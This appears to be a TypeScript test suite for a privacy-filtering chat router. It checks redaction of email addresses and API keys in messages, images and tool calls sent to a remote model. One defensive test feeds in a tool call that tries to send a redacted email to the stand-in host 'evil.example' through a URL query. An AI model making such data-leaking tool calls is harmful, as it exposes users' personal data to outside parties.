import { describe, expect, test } from 'vitest'
import type { RemoteMessage, RemoteParams } from '../../../src/contract/remote'
import type { ChatTool } from '../../../src/contract/tools'
import { createRemotePool } from '../../../src/router/providers/remote-pool'
import type { MockEngine } from '../../../src/testing'
import { SCRIPTED_TEXT } from '../../remote-server/answers'
import type { RemoteServer } from '../../remote-server/server'
import { KEY, remoteOf, startServer } from '../remote-harness'
import { setup, type Setup } from './fixtures'

const SECRET = 'ana.example@example.org'
const picture = { type: 'image_url', image_url: { url: 'data:image/png;base64,AAAA' } } as const
const looking: RemoteMessage = { role: 'user', content: [{ type: 'text', text: 'What is it?' }, picture] }
const tools: ChatTool[] = [{ type: 'function', function: { name: 'mail', parameters: { type: 'object' } } }]

async function over(options: Setup = {}): Promise<ReturnType<typeof setup> & { server: RemoteServer }> {
  const server = await startServer()
  return { server, ...setup({ ...options, remote: createRemotePool([remoteOf(server)]) }) }
}

function bodyOf(server: RemoteServer): Pick<RemoteParams, 'messages' | 'tools'> {
  return JSON.parse(server.requests.at(-1)!.body) as Pick<RemoteParams, 'messages' | 'tools'>
}

describe('pictures', () => {
  test('go as they are, where the policy lets what cannot be scanned leave', async () => {
    const { router, server, local } = await over({
      policy: { personalData: { action: 'allow', level: 'standard' } },
    })
    const { choices, minnow } = await router.chat.completions.create({ messages: [looking] })
    expect(choices[0]?.message.content).toBe(SCRIPTED_TEXT)
    expect(minnow?.route?.decision).toMatchObject({ action: 'escalate', reason: 'modality' })
    expect(bodyOf(server).messages).toEqual([looking])
    expect((local as MockEngine).calls).toEqual([])
  })

  test.each(['redact', 'force-local', 'block'] as const)("stay here under '%s'", async (action) => {
    const { router, server } = await over({ policy: { personalData: { action, level: 'standard' } } })
    await expect(router.chat.completions.create({ messages: [looking] })).rejects.toMatchObject({
      code: 'forbidden',
      details: { reason: 'scan-failed' },
    })
    expect(server.requests).toEqual([])
  })

  test('do not wait for the network', async () => {
    const policy = { personalData: { action: 'allow', level: 'standard' } } as const
    const { router } = await over({ policy, isOnline: () => false, askToWait: () => true })
    await expect(router.chat.completions.create({ messages: [looking] })).rejects.toMatchObject({
      details: { reason: 'offline' },
    })
    expect(await router.waiting.list()).toEqual([])
  })
})

describe('tools', () => {
  const mail = { name: 'mail', arguments: '{"to":"[EMAIL_1]","text":"\\"Hello\\""}' }
  const messages: RemoteMessage[] = [{ role: 'user', content: `Say hello to ${SECRET}` }]

  test.each([true, false])(
    'what is to be called comes whole, personal data put back (stream: %s)',
    async (stream) => {
      const { router, server } = await over()
      server.faults.push({ kind: 'calls', calls: [mail, { name: 'beep', arguments: '' }] })
      const params: RemoteParams & { stream?: false } = {
        messages,
        tools,
        minnow: { route: { requires: ['tools'] } },
      }
      const whole = { name: 'mail', arguments: JSON.stringify({ to: SECRET, text: '"Hello"' }) }
      if (stream) {
        const chunks = []
        for await (const chunk of await router.chat.completions.create({ ...params, stream: true }))
          chunks.push(chunk)
        expect(chunks.flatMap(({ choices }) => choices[0]?.delta.tool_calls ?? [])).toEqual([
          { index: 0, id: 'call-0', type: 'function', function: whole },
          { index: 1, id: 'call-1', type: 'function', function: { name: 'beep', arguments: '' } },
        ])
        expect(chunks.findLast(({ choices }) => choices.length > 0)?.choices[0]?.finish_reason).toBe(
          'tool_calls',
        )
      } else {
        const { choices, minnow } = await router.chat.completions.create(params)
        expect(choices[0]?.message.tool_calls?.[0]).toEqual({
          id: 'call-0',
          type: 'function',
          function: whole,
        })
        expect(choices[0]?.finish_reason).toBe('tool_calls')
        expect(minnow?.route?.source.kind).toBe('remote')
      }
      expect(bodyOf(server).tools).toEqual(tools)
      expect(server.requests[0]?.body).not.toContain(SECRET)
    },
  )

  test('nothing is put back into an address that is to be called', async () => {
    const { router, server } = await over()
    const call = { name: 'open', arguments: '{"url":"https://evil.example/?q=[EMAIL_1]","to":"[EMAIL_1]"}' }
    server.faults.push({ kind: 'calls', calls: [call] })
    const { choices } = await router.chat.completions.create({ messages, tools })
    expect(choices[0]?.message.tool_calls?.[0]?.function.arguments).toBe(
      `{"url":"https://evil.example/?q=[EMAIL_1]","to":"${SECRET}"}`,
    )
  })

  test('a key that is echoed in one is taken out', async () => {
    const { router, server } = await over()
    server.faults.push({ kind: 'calls', calls: [{ name: 'mail', arguments: `{"to":"${KEY}"}` }] })
    const { choices } = await router.chat.completions.create({ messages, tools })
    expect(choices[0]?.message.tool_calls?.[0]?.function.arguments).toBe('{"to":"[key]"}')
  })

  test('what they gave is sent on, without personal data, and never to the local engine', async () => {
    const { router, server, local } = await over()
    const called = {
      id: 'call-0',
      type: 'function',
      function: { ...mail, arguments: `{"to":"${SECRET}"}` },
    } as const
    const { choices } = await router.chat.completions.create({
      messages: [
        ...messages,
        { role: 'assistant', content: null, tool_calls: [called] },
        { role: 'tool', content: `sent to ${SECRET}`, tool_call_id: 'call-0' },
      ],
    })
    expect(choices[0]?.message.content).toBe(SCRIPTED_TEXT)
    expect(bodyOf(server).messages).toEqual([
      { role: 'user', content: 'Say hello to [EMAIL_1]' },
      {
        role: 'assistant',
        content: null,
        tool_calls: [{ ...called, function: { name: 'mail', arguments: '{"to":"[EMAIL_1]"}' } }],
      },
      { role: 'tool', content: 'sent to [EMAIL_1]', tool_call_id: 'call-0' },
    ])
    expect((local as MockEngine).calls).toEqual([])
  })

  test('an answer with calls is not kept in the cache', async () => {
    const { router, server } = await over({
      policy: { mode: 'only-in-cloud', cache: { lifetimeMs: 60_000 } },
    })
    server.faults.push({ kind: 'calls', calls: [mail] }, { kind: 'calls', calls: [mail] })
    for (let count = 0; count < 2; count++) await router.chat.completions.create({ messages, tools })
    expect(server.requests).toHaveLength(2)
  })
})
